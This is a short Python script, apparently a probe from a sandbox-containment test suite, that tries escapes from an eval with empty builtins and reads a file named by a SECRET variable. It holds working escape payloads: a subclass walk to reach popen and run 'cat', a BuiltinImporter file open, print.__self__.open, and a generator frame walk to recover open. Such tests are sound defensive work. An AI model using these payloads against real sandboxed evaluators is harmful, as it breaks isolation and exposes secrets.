# tries: escapes from Python without built-ins through subclasses and tracebacks, and reads a secret
# seen-in: CVE-2025-68668 n8n, CVE-2025-3466 dify-sandbox
# walls: mount
import os
expressions = [
    # Through the loader of some class in the interpreter, and through its globals.
    "[k for k in ().__class__.__base__.__subclasses__() if k.__name__ == '_wrap_close'][0].__init__.__globals__['popen']('cat %s').read()",
    "[k for k in ().__class__.__base__.__subclasses__() if k.__name__ == 'BuiltinImporter'][0].load_module('io').open('%s').read()",
    "print.__self__.open('%s').read()",
]
for expression in expressions:
    try: print(eval(expression.replace("%s", os.environ["SECRET"]), {"__builtins__": {}, "print": print}))
    except BaseException as error: print(type(error).__name__)
def generator():
    yield frames.gi_frame.f_back.f_back.f_builtins["open"](os.environ["SECRET"]).read()
frames = generator()
try: print([value for value in frames])
except BaseException as error: print(type(error).__name__)
print("attempted")
